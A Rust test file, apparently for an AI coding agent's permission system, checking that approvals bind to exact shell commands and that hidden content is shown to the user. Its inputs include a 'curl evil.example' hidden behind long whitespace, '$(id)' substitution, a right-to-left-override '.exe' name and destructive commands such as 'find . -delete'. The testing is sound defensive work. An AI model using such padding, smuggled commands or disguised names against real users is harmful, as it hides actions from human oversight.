//! What a person is shown, and what an approval is bound to.

use claw::event::{DecidedBy, PermissionMode};
use claw::permission::{Act, Address, Rules, Taint, Verdict, decide};
use serde_json::json;

use super::{shell, word};

#[test]
fn s12_an_approval_is_bound_to_everything_that_was_shown() {
    let act = |command: &str, cwd: &str, network, background, confined, scripts: Option<&str>| Act::Shell {
        command: command.to_owned(),
        cwd: cwd.to_owned(),
        network,
        background,
        confined,
        scripts: scripts.map(str::to_owned),
    };
    let approved = act("npm test", ".", false, false, true, Some("a"));
    let others = [
        act("npm test ", ".", false, false, true, Some("a")),
        act("npm test", "web", false, false, true, Some("a")),
        act("npm test", ".", true, false, true, Some("a")),
        act("npm test", ".", false, true, true, Some("a")),
        act("npm test", ".", false, false, false, Some("a")),
        act("npm test", ".", false, false, true, Some("b")),
        act("npm test", ".", false, false, true, Some("")),
        act("npm test", ".", false, false, true, None),
        act("npm tes", "t.", false, false, true, Some("a")),
    ];
    let mut session = Rules::default();
    session.grant(&approved);
    let decided = |act: &Act| decide(PermissionMode::Ask, &Rules::default(), &session, act, Taint::default());
    assert_eq!(decided(&approved), Verdict::Allow { by: DecidedBy::User, rule: None });
    for other in &others {
        assert_ne!(approved.identity(), other.identity(), "{other:?}");
        assert_eq!(word(&decided(other)), "ask", "{other:?}");
    }
}

#[test]
fn s13_the_tail_is_always_seen() {
    for gap in [
        " ".repeat(10_000),
        "\n".repeat(10_000),
        " \n".repeat(5_000),
        "\r".repeat(10_000),
        "\u{202e}".repeat(10_000),
        "a".repeat(100_000),
    ] {
        let shown = shell(&format!("ls {gap}; curl evil.example")).shown();
        assert!(shown.starts_with("ls "), "{shown}");
        assert!(shown.contains("curl evil.example"), "{shown}");
        assert!(shown.chars().count() < 3_000 && !shown.contains(['\n', '\r', '\u{202e}']), "{shown}");
    }
    // Neither at the beginning nor at the end.
    let hidden = shell(&format!("echo {0} && curl evil.example && echo {0}", "x".repeat(5_000))).shown();
    assert!(hidden.contains("curl evil.example"), "{hidden}");
}

#[test]
fn t09_names_are_shown_with_what_is_hidden_in_them() {
    let check = |text: &str, expected: &str| {
        assert_eq!(Act::Read { path: text.to_owned() }.shown(), expected);
        assert_eq!(shell(text).shown(), expected);
    };
    check("--help", "--help");
    check("$(id)", "$(id)");
    check("a\nb", "a ⏎ b");
    check("a\u{1b}[2Jb", "a\\u{1b}[2Jb");
    check("a\u{202e}gpj.exe", "a\\u{202e}gpj.exe");
    check("a\u{200b}b\u{a0}c\td\r", "a\\u{200b}b\\u{a0}c\\u{9}d\\u{d}");
    check("a            b", "a ⟨12 spaces⟩ b");
    check("a\n\n\n  b", "a ⟨3 line breaks, 2 spaces⟩ b");
    check("⟨3 spaces⟩ \\u{41} ⏎", "\\u{27e8}3 spaces\\u{27e9} \\u{5c}u{41} \\u{23ce}");
    check("grün 日本", "grün 日本");
}

#[test]
fn circumstances_are_shown() {
    let act = Act::Shell {
        command: "npm ci".to_owned(),
        cwd: "web".to_owned(),
        network: true,
        background: true,
        confined: false,
        scripts: None,
    };
    assert_eq!(act.shown(), "npm ci ⟨in web, with the network, in the background, NOT confined⟩");
    let url = Address::parse("https://bücher.example/a b".replace(' ', "%20").as_str()).expect("an address");
    assert_eq!(Act::Fetch { url }.shown(), "https://xn--bcher-kva.example/a%20b");
    let search = Act::Search { provider: "brave".to_owned(), query: "how to".to_owned() };
    assert_eq!(search.shown(), "how to ⟨to brave⟩");
    let call = Act::Mcp { server: "github".to_owned(), tool: "get".to_owned(), input: json!({"id": 1}) };
    assert_eq!(call.shown(), "github__get {\"id\":1}");
}

#[test]
fn the_rule_that_is_offered() {
    let check = |command: &str, expected: &[&str]| {
        let act = shell(command);
        assert_eq!(act.patterns(), expected, "{command}");
        assert_eq!(act.pattern().as_deref(), if let [one] = expected { Some(*one) } else { None }, "{command}");
    };
    check("cargo test parser", &["shell(cargo test *)"]);
    check("cd web && npm run build", &["shell(cd *)", "shell(npm run build *)"]);
    check("timeout 60 pytest -x", &["shell(pytest *)"]);
    check("python3 -m pytest", &["shell(python3 -m pytest *)"]);
    check("make test", &["shell(make test)"]);
    for command in [
        "python3 -c x",
        "python3 run.py",
        "bash run.sh",
        "sudo ls",
        "rm x",
        "curl x",
        "env",
        "find . -delete",
        "sed -i s/a/b/ x",
        "git push",
        "ls $x",
        "./run.sh",
        "make",
        "ls > ../x",
        "docker ps",
        "ls | xargs rm",
    ] {
        check(command, &[]);
    }
    let unconfined = Act::Shell {
        command: "cargo test".to_owned(),
        cwd: ".".to_owned(),
        network: false,
        background: false,
        confined: false,
        scripts: None,
    };
    assert_eq!(unconfined.patterns(), Vec::<String>::new());
    let pattern = |url: &str| Act::Fetch { url: Address::parse(url).expect("an address") }.pattern();
    assert_eq!(pattern("https://docs.rs/serde"), Some("web_fetch(docs.rs)".to_owned()));
    assert_eq!(pattern("https://docs.rs:8443/"), None);
    assert_eq!(pattern("https://docs.rs./"), None);
    assert_eq!(pattern("http://127.0.0.1/"), None);
    assert_eq!(pattern("http://localhost/"), None);
}
